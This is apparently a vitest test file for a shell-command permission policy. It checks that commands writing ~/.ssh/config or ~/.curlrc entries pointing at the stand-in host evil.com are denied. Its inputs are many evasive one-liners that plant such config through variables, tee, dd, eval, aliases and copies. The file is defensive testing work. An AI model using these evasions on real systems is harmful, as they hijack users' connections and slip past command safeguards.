// Client configuration written through a path the line holds in a variable (planted-config.ts):
// `F=~/.ssh/config; printf … > "$F"` plants what `~/.ssh/config` would; and the narrowing of an
// unseen copy (unseen-source.ts): a statement that only prints writes no file, so the host it
// names is no ground for a deny of `cp x ~/.ssh/config`, while every statement that writes or
// could be made to (a redirect, tee, sort -o, a function, exec, eval, an alias) is still read.
import { describe, expect, it } from "vitest";
import { judgeShell, policyOf } from "../testing/policy";

const noEvil = policyOf({ effect: "deny", host: "evil.com" });
const decision = (command: string) => judgeShell(command, noEvil).decision;

describe("a config path held in a variable", () => {
  it.each([
    "F=~/.ssh/config; printf 'Host x\\n Hostname evil.com' > \"$F\"; ssh x",
    "F=~/.ssh/config; printf 'Host x\\n Hostname evil.com' > $F; ssh x",
    "F=$HOME/.ssh/config; printf 'Host x\\n Hostname evil.com' >> ${F}; ssh x",
    "export F=~/.curlrc; echo 'url = evil.com' > \"$F\"; curl",
    "D=~/.ssh; printf 'Host x\\n Hostname evil.com' > $D/config; ssh x",
    "F=~/.ssh/config; G=$F; printf 'Host x\\n Hostname evil.com' > $G; ssh x",
    "F=~/.ssh; printf 'Host x\\n Hostname evil.com' > ${F}/config; ssh x",
    "F=~/.ssh/conf; printf 'Host x\\n Hostname evil.com' > ${F}ig; ssh x",
    "D=~; printf 'Host x\\n Hostname evil.com' > \"$D/.ssh/config\"; ssh x",
    "F=~/.ssh/config; printf 'Host x\\n Hostname evil.com' | tee -a \"$F\"; ssh x",
    "cd ~/.ssh && printf 'Host x\\n Hostname evil.com' > config; ssh x",
    "printf 'Host x\\n Hostname evil.com' | tee -a ~/.ssh/config; ssh x",
    "cat >> ~/.curlrc <<EOF\nurl = evil.com\nEOF\ncurl",
    "printf 'Host x\\n Hostname evil.com' | dd of=~/.ssh/config; ssh x",
    "printf 'Host x\\n Hostname evil.com' > /tmp/c; install /tmp/c ~/.ssh/config; ssh x",
    "printf 'Host x\\n Hostname evil.com' > /tmp/c; cp /tmp/c ~/.ssh/config; ssh x",
    "printf 'Host x\\n Hostname evil.com' > /tmp/c; mv /tmp/c ~/.ssh/config; ssh x",
  ])("%s is denied", (command) => expect(decision(command)).toBe("policy_deny"));
});

describe("an unseen copy reads the statements that may have written its source", () => {
  it.each([
    "echo 'Host x\\n Hostname evil.com' > x; cp x ~/.ssh/config",
    "grep evil.com log > x; cp x ~/.ssh/config",
    "grep evil.com log | tee x; cp x ~/.ssh/config",
    "exec > x; echo Hostname evil.com; cp x ~/.ssh/config",
    "{ echo Hostname evil.com; } > x; cp x ~/.ssh/config",
    "(echo Hostname evil.com) > x; cp x ~/.ssh/config",
    "if true; then echo Hostname evil.com; fi > x; cp x ~/.ssh/config",
    'grep(){ echo Hostname "$1" > x; }; grep evil.com; cp x ~/.ssh/config',
    "echo Hostname evil.com >x & cp x ~/.ssh/config",
    "sort -o x <<< 'Hostname evil.com'; cp x ~/.ssh/config",
    "printf 'Hostname evil.com' > x\ncp x ~/.ssh/config",
    "cat > x <<< 'Hostname evil.com'; cp x ~/.ssh/config",
    "echo Hostname evil.com | sponge x; cp x ~/.ssh/config",
    "echo Hostname evil.com > >(cat > x); cp x ~/.ssh/config",
    "G=grep; $G evil.com > x; cp x ~/.ssh/config",
    "eval 'echo Hostname evil.com > x'; cp x ~/.ssh/config",
    "alias grep='tee x'; echo Hostname evil.com | grep q; cp x ~/.ssh/config",
    "echo Hostname evil.com | tr a a > x && cp x ~/.ssh/config",
    "export H=evil.com; bash -c 'echo \"Hostname $H\" >> ~/.ssh/config'; ssh x",
  ])("%s is denied", (command) => expect(decision(command)).toBe("policy_deny"));

  it.each([
    "grep evil.com log; cp x ~/.ssh/config",
    "grep evil.com log && cp x ~/.ssh/config",
    "grep -r evil.com . | head; cp x ~/.ssh/config",
    "grep evil.com log; mv x ~/.ssh/config",
    'grep evil.com log; F=~/.ssh/config; cp x "$F"',
  ])("%s is asked, not denied", (command) => expect(decision(command)).toBe("policy_ask"));
});
